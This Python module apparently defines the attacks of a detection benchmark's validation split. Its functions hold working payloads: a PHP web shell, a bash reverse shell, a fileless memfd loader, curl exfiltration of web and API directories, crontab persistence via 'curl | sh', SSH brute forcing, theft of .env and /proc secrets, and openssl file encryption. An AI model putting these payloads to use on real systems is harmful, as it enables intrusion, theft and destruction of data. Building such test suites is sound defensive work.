"""The attacks of the validation split. None of them, and none of their tools, is in the test split."""
import subprocess
import threading
import time

from common import HOME, SECRET, Listener, converse, drain, files, mark


def web_shell(enemy):
    """PHP's system(): every command is a shell below the PHP worker."""
    enemy.upload("avatar-7.php", b"<?php system($_GET['c']); ")
    for command in ["id", "uname -a", "cat /etc/passwd", "ls -la /srv/api", "cat /srv/api/.env", "ps ax"]:
        if SECRET in enemy.php("avatar-7.php", c=command):
            mark("harm")
        enemy.pause(0.9)


def reverse_shell_bash(enemy):
    home = Listener(4444)
    enemy.later(enemy.inject, f"bash -c 'bash -i >& /dev/tcp/{HOME}/4444 0>&1'")
    if stream := home.wait():
        converse(stream, ["id", "pwd", "cat /srv/api/.env", "cat /etc/hosts", "ls -la /home"], enemy.pause)


def memfd_python(enemy):
    """Fetched, written to memory and run from there by the API's own process."""
    files(enemy)
    drain(8443)
    enemy.later(enemy.python, f"""
import os, urllib.request
data = urllib.request.urlopen('http://{HOME}:8080/beacon').read()
fd = os.memfd_create('x')
os.write(fd, data)
pid = os.fork()
if pid == 0:
    os.execve('/proc/self/fd/%d' % fd, ['dbus-helper', '{HOME}', '8443', '6'], {{}})
os.waitpid(pid, 0)
r = 1""")
    enemy.pause(7)


def port_scan_python(enemy):
    """In the API's process, by connect()."""
    answer = enemy.python(f"""
import socket
r = []
for port in list(range(20, 120)) + [443, 2049, 3000, 3306, 5432, 6379, 8000, 8080, 9000]:
    for host in ['{enemy.site.rsplit('.', 1)[0]}.1', '203.0.113.20']:
        s = socket.socket(); s.settimeout(0.03)
        if s.connect_ex((host, port)) == 0: r.append((host, port))
        s.close()""")
    if answer.startswith(b"HTTP/1.1 200"):
        mark("harm")


def bulk_exfiltration_curl(enemy):
    drain(8081)
    enemy.later(enemy.inject, f"tar c /srv/www /srv/api 2>/dev/null | curl -s -m 8 -T - http://{HOME}:8081/up")
    enemy.pause(6)


def crontab_persistence(enemy):
    """A stolen password, a session, a line in the user's crontab."""
    enemy.ssh("alice", enemy.password, "id; (crontab -l 2>/dev/null; echo '* * * * * curl -s http://198.51.100.7:8080/x | sh') | crontab -; crontab -l")
    mark("harm")


def brute_force_ssh(enemy):
    """Many connections, one password each; the last is the right one."""
    words = [f"{word}{number}" for word in ("alice", "summer", "shop", "welcome") for number in range(8)]
    limit = threading.Semaphore(4)

    def attempt(word):
        with limit:
            enemy.ssh("alice", word, "true", 20)

    threads = [enemy.later(attempt, word) for word in words]
    for thread in threads:
        thread.join(25)
    enemy.ssh("alice", enemy.password, "id")
    mark("harm")


def environment_reading_node(enemy):
    """Nothing but file reading inside the Node process; the answer goes back with the request's."""
    for path in ["/proc/self/environ", "/etc/passwd", "/srv/orders/providers.json", "/proc/self/maps", "/srv/api/.env"]:
        if SECRET in enemy.javascript(f"fs.readFileSync('{path}', 'latin1')"):
            mark("harm")
        enemy.pause(0.8)


def encryption_openssl(enemy):
    """One openssl a file."""
    threading.Thread(target=lambda: (time.sleep(0.2), mark("harm")), daemon=True).start()
    enemy.inject("cd /srv/www/uploads; for f in picture-1*.jpg; do openssl enc -aes-256-ctr -k x -in $f -out $f.enc 2>/dev/null && rm $f; sleep 0.1; done; echo done")


def padded_reading_php(enemy):
    """Each act of a web shell between hundreds of harmless calls."""
    enemy.upload("avatar-8.php", b"""<?php
foreach (['/etc/passwd', '/proc/self/environ', '/proc/1/cmdline', '/srv/api/.env', '/etc/ssh/sshd_config'] as $path) {
    for ($i = 0; $i < 250; $i++) { clearstatcache(); is_file(__DIR__ . '/../page.html'); if ($i % 50 == 0) usleep(60000); }
    echo @file_get_contents($path);
}""")
    if SECRET in enemy.php("avatar-8.php"):
        mark("harm")


ATTACKS = {
    "web-shell-commands": web_shell,
    "reverse-shell-bash": reverse_shell_bash,
    "memfd-from-python": memfd_python,
    "port-scan-python": port_scan_python,
    "bulk-exfiltration-curl": bulk_exfiltration_curl,
    "crontab-persistence": crontab_persistence,
    "brute-force-ssh": brute_force_ssh,
    "secret-reading-node": environment_reading_node,
    "encryption-openssl": encryption_openssl,
    "padded-reading-php": padded_reading_php,
}
